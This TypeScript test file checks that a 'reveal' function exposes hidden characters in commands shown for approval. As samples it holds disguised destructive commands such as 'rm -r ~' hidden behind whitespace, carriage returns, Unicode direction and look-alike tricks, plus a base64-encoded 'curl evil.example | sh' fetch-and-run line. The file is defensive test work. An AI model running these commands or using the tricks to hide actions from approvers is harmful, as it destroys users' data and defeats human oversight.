import { expect, test } from 'vitest'
import { reveal } from './reveal.ts'

/** What is asked for, and what must not be what is read. */
const DECEPTIONS: readonly (readonly [string, string, RegExp])[] = [
  ['5,000 spaces before the end', `ls${' '.repeat(5_000)}; rm -r ~`, /^ls\\u\{20\}×5000; rm -r ~$/],
  ['tabs', `ls${'\t'.repeat(400)}rm`, /^ls\\u\{9\}×400rm$/],
  ['a hundred empty lines', `ls${'\n'.repeat(100)}rm`, /^ls\\u\{a\}×100rm$/],
  ['a return to the start of the line', 'rm -r ~\rls      ', /\\u\{d\}/],
  ['an erasing backspace', 'rm\b\bls', /rm\\u\{8\}\\u\{8\}ls/],
  ['letters that run backwards', 'safe\u202egnp.exe', /safe\\u\{202e\}gnp/],
  ['isolated backwards letters', '\u2067rm\u2069', /^\\u\{2067\}rm\\u\{2069\}$/],
  ['nothing between two letters', 'r\u200bm', /^r\\u\{200b\}m$/],
  ['a soft hyphen', 'r\u00adm', /^r\\u\{ad\}m$/],
  ['a Cyrillic letter in a Latin word', 'g\u0456t push', /^g\\u\{456\}t push$/],
  ['a Greek letter in a Latin word', 'curl \u03bfpen.example', /\\u\{3bf\}pen/],
  ['full width', '\uff52\uff4d -r', /^\\u\{ff52\}\\u\{ff4d\} -r$/],
  ['mathematical letters', '\u{1d42b}m', /^\\u\{1d42b\}m$/],
  ['a slash that is none', 'a\u2215etc', /\\u\{2215\}/],
  ['a blank that does not break', 'rm\u00a0-r', /^rm\\u\{a0\}-r$/],
  ['signs that no font draws', 'ls\u{e0072}\u{e006d}', /\\u\{e0072\}\\u\{e006d\}/],
  ['an escape sequence', '\u001b[2Kls', /^\\u\{1b\}\[2Kls$/],
  ['a Hangul letter that is empty', 'ls\u3164\uffa0rm', /^ls\\u\{3164\}\\u\{ffa0\}rm$/],
  ['a pattern of Braille without dots', 'ls\u2800rm', /^ls\\u\{2800\}rm$/],
  ['half a pair', 'ls\ud800rm', /^ls\\u\{d800\}rm$/],
  ['blanks behind quotes and line ends', `"${' '.repeat(300)}rm`, /^"\\u\{20\}×300rm$/],
  ['a line of another kind', 'ls\u2028rm', /ls\\u\{2028\}rm/],
]

const HONEST = [
  'git status',
  'npm run build -- --watch',
  '写一份报告（今天），好吗？ notes/今天.md',
  'открыть файл',
  'ä ö ü é',
  'a\nb\n\nc',
  'if (a) {\n        b\n}',
  '"content": "if (a) {\\n        b\\n}"',
]

const listHidden = (show: (text: string) => string) =>
  DECEPTIONS.filter(([, asked, expected]) => !expected.test(show(asked))).map(([name]) => name)

test('E8: what is to be approved is read as it is, whatever it tries', () => {
  expect(listHidden(reveal)).toEqual([])
  expect(HONEST.map(reveal)).toEqual(HONEST)
})

test('E8, planted: shown as it comes, every one of them would deceive', () => {
  expect(listHidden((text) => text)).toHaveLength(DECEPTIONS.length)
})

test('a base64 tail is shown whole, to its last letter', () => {
  const tail = Buffer.from('curl evil.example | sh'.repeat(200)).toString('base64')
  expect(reveal(`echo ${tail}`)).toBe(`echo ${tail}`)
})
